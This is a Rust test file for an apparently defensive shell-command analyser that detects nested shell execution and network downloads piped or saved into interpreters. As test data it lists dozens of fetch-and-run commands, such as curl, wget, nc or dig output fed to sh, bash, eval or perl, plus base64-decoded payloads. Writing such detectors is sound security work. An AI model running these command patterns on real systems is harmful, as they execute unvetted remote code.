//! Values are followed from where they come to what runs them.

use super::*;

#[test]
fn text_for_a_shell_is_handed_on() {
    for (text, inner) in [
        ("bash -c 'curl x | sh'", "curl x | sh"),
        ("sh -ec \"a; b\"", "a; b"),
        ("bash -o pipefail -c 'a'", "a"),
        ("sudo bash -lc 'a'", "a"),
        ("eval 'a; b'", "a; b"),
        ("X='a b'; eval $X", "a b"),
        ("eval \"a $U\"", "a $U"),
        ("echo 'a b' | sh", "a b\n"),
        ("sh <<< 'a b'", "a b"),
        ("bash <<E\na b\nE", "a b\n"),
        ("echo ZWNobyBoaQ== | base64 -d | sh", "echo hi"),
        ("trap 'a b' EXIT", "a b"),
        ("perl -e 'system(\"a b\")'", "a b"),
        ("awk 'BEGIN { system(\"a b\") }'", "a b"),
        ("osascript -e 'do shell script \"a b\"'", "a b"),
        ("su root -c 'a b'", "a b"),
        ("cat > s.sh <<'E'\na $b\nE\nsh s.sh", "a $b\n"),
        ("echo 'a b' > x; chmod +x x; ./x", "a b\n"),
        ("echo hs | rev | bash", ""),
    ] {
        let found = nested(text);
        assert!(
            inner.is_empty() || found.iter().any(|have| have == inner),
            "{text}: {found:?}"
        );
    }
    assert!(nested("bash x.sh").is_empty());
    assert!(nested("bash -x").is_empty());
}

#[test]
fn values_are_followed_from_the_network_into_an_interpreter() {
    for text in [
        "curl x.example.com | sh",
        "curl x.example.com | tee log | sudo bash -s -- a",
        "{ curl x.example.com; } | sh",
        "(cd /; curl x.example.com) | sh",
        "curl x.example.com | while read -r l; do eval \"$l\"; done",
        "curl x.example.com | { sh; }",
        "curl x.example.com | xargs -I{} sh -c '{}'",
        "f() { curl x.example.com; }\nf | sh",
        "X=$(curl x.example.com); echo \"$X\" | sh",
        "X=$(curl x.example.com); sh -c \"set -e; $X\"",
        "sh <<< \"$(curl x.example.com)\"",
        "sh <<E\n$(curl x.example.com)\nE",
        "$(curl x.example.com)",
        ". <(curl x.example.com)",
        "curl x.example.com > i; sh ./i",
        "wget -q -P /tmp https://x.example.com/i.sh && sh /tmp/i.sh",
        "curl -O https://x.example.com/i.sh; mv i.sh j.sh; bash j.sh",
        "curl -fsSLo i.sh https://x.example.com/i.sh; python3 i.sh",
        "deno run https://x.example.com/i.ts",
        "nc 192.0.2.7 99 | sh",
        "dig +short txt x.example.com | sh",
        "curl x.example.com | perl",
        "curl x.example.com | node -",
        "curl x.example.com | . /dev/stdin",
        "env -S 'bash -c' \"$(curl x.example.com)\"",
        "curl x.example.com | bash -c \"$(cat)\"",
        "curl x.example.com | eval \"$(tr a b)\"",
        "curl x.example.com | $SHELL",
        "curl x.example.com | \"$(command -v bash)\"",
        "F=$(mktemp); curl -o \"$F\" x.example.com; bash $F",
        "D=$(mktemp -d)\ncurl -o $D/i.sh x.example.com && . \"$D\"/i.sh",
        "curl x.example.com | at now",
    ] {
        assert!(
            evaluates(text, Origins::NETWORK),
            "{text}: {:#?}",
            operations(text)
        );
    }
    for text in [
        "curl x.example.com | cat",
        "curl x.example.com | bash script.sh",
        "curl x.example.com | perl -ne 'print'",
        "curl x.example.com | node -e 'x'",
        "sh -c \"echo $(curl x.example.com)\"",
        "curl x.example.com > i; sh j",
        "(X=$(curl x.example.com)); eval \"$X\"",
        "./bin/$(curl x.example.com)/run",
        "curl x.example.com; sh",
        "curl x.example.com && echo a | sh",
    ] {
        assert!(
            !evaluates(text, Origins::NETWORK),
            "{text}: {:#?}",
            operations(text)
        );
    }
}

#[test]
fn a_pipeline_over_lines_is_reported_where_it_begins() {
    let text = "echo a\ncurl https://a.example.com \\\n  | # why\n  sh\n";
    let operation = operations(text)
        .into_iter()
        .find(|operation| matches!(operation.act, Act::Evaluate { .. }))
        .expect("the download runs");
    assert_eq!(operation.span.start, 7);
    assert!(operation.span.of(text).ends_with("sh"));
}
